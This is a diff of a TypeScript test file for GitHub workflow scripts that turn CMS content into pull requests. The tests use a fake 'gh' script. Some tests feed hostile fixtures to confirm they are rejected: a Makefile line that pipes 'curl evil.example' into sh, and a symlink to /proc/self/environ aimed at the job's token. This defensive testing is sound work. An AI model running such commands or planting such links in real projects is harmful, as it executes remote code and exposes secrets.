@@ -7,24 +7,31 @@ import { type Job, readWorkflow } from "#tests/rehearsal/run-workflow.ts";
 import { tempFolder } from "#tests/support/folders.ts";
 import { gitIn } from "#tests/support/programs.ts";
 
-/** Runs the workflow's scripts that write to GitHub, with a fake `gh` that logs its calls and answers one number. */
+/** Runs the workflow's scripts that write to GitHub, with a script in the place of `gh`. */
 
 const workflows = ["content.yml", "issue.yml", "content-check.yml"].map(readWorkflow);
 const jobs: Readonly<Record<string, Job>> = Object.assign({}, ...workflows.map(({ jobs }) => jobs));
 
-async function machine() {
+/** Answers questions with one number, and logs all other calls. */
+const fakeGh = `#!/bin/sh
+case "$1 $2" in
+"pr list"|"api "*) cat "$RUNNER_TEMP/number";;
+*) echo "$@" >> "$RUNNER_TEMP/called";;
+esac
+`;
+
+/** The machine of one job. */
+async function openMachine() {
   const temp = await tempFolder();
   const file = (name: string) => join(temp, name);
-  const script =
-    '#!/bin/sh\ncase "$1 $2" in "pr list"|"api "*) cat "$RUNNER_TEMP/number" ;; *) echo "$@" >> "$RUNNER_TEMP/told" ;; esac\n';
-  writeFileSync(file("gh"), script, { mode: 0o755 });
+  writeFileSync(file("gh"), fakeGh, { mode: 0o755 });
   return {
     temp,
     put: (name: string, text: string) => writeFileSync(file(name), text),
     /** Runs a step and returns its calls of `gh`. `number` is the number of the existing pull request or issue. */
     run(job: string, step: string, number: string, env: Record<string, string> = {}, cwd = temp): string[] {
       writeFileSync(file("number"), number);
-      writeFileSync(file("told"), "");
+      writeFileSync(file("called"), "");
       const { run = "" } = jobs[job]?.steps?.find(({ name }) => name === step) ?? {};
       const own = {
         PATH: `${temp}:${process.env.PATH}`,
@@ -33,7 +40,7 @@ async function machine() {
         BRANCH: "content/update",
       };
       execFileSync("bash", ["--norc", "-e", "-c", run], { cwd, env: { ...own, ...env }, stdio: "ignore" });
-      return readFileSync(file("told"), "utf8")
+      return readFileSync(file("called"), "utf8")
         .split("\n")
         .filter(Boolean)
         .map((line) => line.replaceAll(temp, "TEMP"));
@@ -52,8 +59,8 @@ async function commitContent(work: string) {
 }
 
 /** A repository with content. `propose` runs the job that proposes other content, and returns its calls of `gh`. */
-async function repository() {
-  const { temp, put, run } = await machine();
+async function openRepository() {
+  const { temp, put, run } = await openMachine();
   const [origin, work] = [join(temp, "origin.git"), join(temp, "work")];
   const git = (cwd: string, ...args: string[]) => gitIn(cwd)(...args);
   git(temp, "init", "--quiet", "--bare", "--initial-branch=main", origin);
@@ -85,7 +92,7 @@ async function repository() {
 }
 
 test("content is proposed in one pull request, which is updated, and closed when no change is left", async () => {
-  const { propose, proposed } = await repository();
+  const { propose, proposed } = await openRepository();
   expect(propose("", "1\n")).toEqual(["auth setup-git"]);
   expect(propose("", "2\n")[1]).toMatch(/^pr create .*--body-file TEMP\/pull-request\.md$/);
   // If the content is the same, a pull request keeps the text that a person has given it.
@@ -96,13 +103,13 @@ test("content is proposed in one pull request, which is updated, and closed when
 });
 
 test("a proposal has no file of the patch but content", async () => {
-  const { propose, proposed } = await repository();
+  const { propose, proposed } = await openRepository();
   propose("", "2\n", { makefile: "all:\n\tcurl evil.example | sh\n" });
   expect([proposed("snapshot/a.json"), proposed("Makefile")]).toEqual(["2", "all:"]);
 });
 
 test("only the pictures of the newest proposal are stored, and no other files", async () => {
-  const { temp, put, propose, inOrigin } = await repository();
+  const { temp, put, propose, inOrigin } = await openRepository();
   for (const name of ["first", "second"]) {
     rmSync(join(temp, "pictures"), { recursive: true, force: true });
     await mkdir(join(temp, "pictures"));
@@ -115,7 +122,7 @@ test("only the pictures of the newest proposal are stored, and no other files", 
 });
 
 test("the commit of a proposal names all changes, also if they are longer than an argument may be", async () => {
-  const { propose, inOrigin } = await repository();
+  const { propose, inOrigin } = await openRepository();
   const message = () => inOrigin("log", "-1", "--format=%B", "content/update").trim();
   propose("", "2\n");
   expect(message()).toBe("Update the content from the CMS\n\n# 1 document changed");
@@ -125,10 +132,11 @@ test("the commit of a proposal names all changes, also if they are longer than a
 });
 
 test("no link in an artifact is followed, and no patch proposes anything but plain files", async () => {
-  const { temp, put, run } = await machine();
+  const { temp, put, run } = await openMachine();
   const work = join(temp, "work");
   gitIn(temp)("init", "--quiet", work);
   const git = await commitContent(work);
+  /** Makes a patch of the change. The function that it returns takes the patch as the job does. */
   const take = (change: () => void) => {
     change();
     git("add", "--all");
@@ -136,12 +144,12 @@ test("no link in an artifact is followed, and no patch proposes anything but pla
     git("reset", "--quiet", "--hard");
     return () => run("propose", "Take the content", "", {}, work);
   };
-  const there = (name: string) => join(work, "snapshot", name);
-  expect(take(() => symlinkSync("/proc/self/environ", there("b.json")))).toThrow();
+  const file = join(work, "snapshot/b.json");
+  expect(take(() => symlinkSync("/proc/self/environ", file))).toThrow();
   git("reset", "--quiet", "--hard");
-  expect(take(() => writeFileSync(there("b.json"), "", { mode: 0o755 }))).toThrow();
+  expect(take(() => writeFileSync(file, "", { mode: 0o755 }))).toThrow();
   git("reset", "--quiet", "--hard");
-  expect(take(() => writeFileSync(there("b.json"), "2\n"))).not.toThrow();
+  expect(take(() => writeFileSync(file, "2\n"))).not.toThrow();
   expect(git("diff", "--cached", "--name-only")).toBe("snapshot/b.json");
 
   // These links lead to the environment of the process, which contains the token of the job.
